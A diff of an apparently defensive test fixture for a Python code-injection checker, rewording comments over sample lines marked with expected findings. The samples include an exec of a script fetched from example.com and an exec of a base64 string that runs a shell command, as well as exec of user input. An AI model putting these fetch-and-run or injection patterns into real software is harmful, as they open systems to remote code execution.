@@ -1,4 +1,4 @@
-#: a fixed text is info, as it is judged like any other code
+#: a fixed string is info and is checked like any other code
 print(eval("2 + 3"))  # expect: PY-CODE info
 exec("total = sum(range(4))")  # expect: PY-CODE info
 #: input is an error
@@ -7,20 +7,20 @@ exec(input("code? "))  # expect: PY-CODE-INJECTION error
 #: a parameter is a warning
 def calculate(text):
     return eval(text)  # expect: PY-CODE-INJECTION warning
-#: what comes over the network is an error
+#: data from the network is an error
 import requests
 exec(requests.get("https://example.com/x.py", timeout=3).text)  # expect: PY-CODE-INJECTION error, PY-NETWORK info
 #: a file is a warning
 with open("settings.py") as file:
     exec(file.read())  # expect: PY-CODE-INJECTION warning
-#: decoded text is judged by what it says
+#: a decoded string is checked by its contents
 import base64
 exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=="))  # expect: PY-CODE warning, PY-COMMAND error
 #: hidden evaluation
 import builtins
 builtins.eval("1 + 1")  # expect: PY-CODE warning
 max(["1", "2"], key=eval)  # expect: PY-CODE warning
-#: a tree alone runs nothing
+#: parsing alone runs nothing
 import ast
 compile("1 + 1", "<s>", "eval", ast.PyCF_ONLY_AST)
 ast.parse("1 + 1")
@@ -28,10 +28,10 @@ ast.literal_eval("[1]")
 #: files and modules
 import runpy
 runpy.run_path("/opt/job.py")  # expect: PY-CODE warning
-#: timing a function runs nothing new
+#: timing a function runs no new code
 import timeit
 timeit.timeit(lambda: 1)
-#: methods of one's own
+#: methods of the program's own classes
 class Query:
     def exec(self, text):
         return text
